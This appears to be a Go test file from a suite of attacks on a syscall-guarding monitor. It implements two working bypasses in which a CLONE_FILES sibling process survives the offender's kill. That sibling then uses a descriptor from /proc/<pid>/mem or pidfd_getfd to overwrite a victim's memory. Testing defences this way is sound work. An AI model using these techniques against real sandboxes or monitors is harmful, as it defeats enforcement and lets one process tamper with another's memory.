package main

import (
	"fmt"
	"os"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Attacks by two processes that share one descriptor table: the offender
// clone()s a sharer with CLONE_FILES but neither CLONE_THREAD nor CLONE_VM,
// a process of its own, which waits for a descriptor to appear at a
// number it was given, then writes 8 zero bytes through it (sharer_amd64.s).
// The offender makes the guarded call and is killed for it; no signal to
// the offender's thread group reaches the sharer.
//
// The kernel installs the new descriptor (fd_install) inside the syscall,
// before the syscall's exit tracepoint runs, and pidfd_getfd does so after
// its entry tracepoint has sent the SIGKILL: either way the descriptor is
// in the shared table when the offender dies. Its exit (exit_files) drops
// only its own reference to the table; the table, and the open file of
// the victim's memory in it, live on with the sharer.
func init() {
	// Into calls directly: attacks.go's init, which copies attacks into
	// calls, runs before this file's (files initialise in name order).
	calls["files-sharer-mem-marker"] = sharerMem
	calls["files-sharer-getfd-marker"] = sharerGetfd
}

// cloneSharer is in sharer_amd64.s.
func cloneSharer(flags, fd, buf, off, ppid, pause uintptr) (pid, errno uintptr)

// sharerPause is how long the sharer sleeps between two looks.
var sharerPause = unix.Timespec{Nsec: 1e6}

// startSharer starts a sharer that zeroes the word at off in the file fd
// will hold.
func startSharer(fd int, off uintptr) int {
	pid, errno := cloneSharer(unix.CLONE_FILES|uintptr(unix.SIGCHLD), uintptr(fd), uintptr(unsafe.Pointer(&zeroWord)),
		off, uintptr(os.Getpid()), uintptr(unsafe.Pointer(&sharerPause)))
	if errno != 0 {
		fail("clone with CLONE_FILES: %v", syscall.Errno(errno))
	}
	return int(pid)
}

// waitSharer waits for the sharer and returns how its write went: 0, the
// write's errno, or ESRCH (3) when no descriptor came.
func waitSharer(pid int) syscall.Errno {
	var ws unix.WaitStatus
	if _, err := unix.Wait4(pid, &ws, 0, nil); err != nil {
		fail("wait for the sharer %d: %v", pid, err)
	}
	if !ws.Exited() {
		fail("sharer %d: %v", pid, ws)
	}
	return syscall.Errno(ws.ExitStatus())
}

// stopSharer ends a sharer whose descriptor will not come.
func stopSharer(pid int) {
	unix.Kill(pid, unix.SIGKILL)
	var ws unix.WaitStatus
	unix.Wait4(pid, &ws, 0, nil)
}

// sharerMem opens /proc/<pid>/mem for the sharer, which zeroes the
// marker through the descriptor the open made.
func sharerMem(pid int) syscall.Errno {
	path := fmt.Sprintf("/proc/%d/mem", pid)
	fd := nextFD()
	sharer := startSharer(int(fd), uintptr(unsafe.Pointer(&marker)))
	got, err := unix.Open(path, unix.O_RDWR, 0) // killed at this syscall's exit
	if err != nil {
		stopSharer(sharer)
		return err.(syscall.Errno)
	}
	if got != int(fd) {
		stopSharer(sharer)
		fail("the open made descriptor %d, not the %d the sharer waits for", got, fd)
	}
	return waitSharer(sharer)
}

// sharerGetfd takes the victim's descriptor of its shared memory with
// pidfd_getfd for the sharer, which zeroes the shared marker through it.
func sharerGetfd(pid int) syscall.Errno {
	target := sharedFD(pid)
	pidfd, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		fail("pidfd_open %d: %v", pid, err)
	}
	fd := nextFD()
	sharer := startSharer(int(fd), 0)
	// Killed at this syscall's entry, yet the call runs on and installs
	// the descriptor before the signal is acted on, on the way out.
	got, _, errno := unix.Syscall(unix.SYS_PIDFD_GETFD, uintptr(pidfd), uintptr(target), 0)
	if errno != 0 {
		stopSharer(sharer)
		return errno
	}
	if int(got) != int(fd) {
		stopSharer(sharer)
		fail("pidfd_getfd made descriptor %d, not the %d the sharer waits for", got, fd)
	}
	return waitSharer(sharer)
}
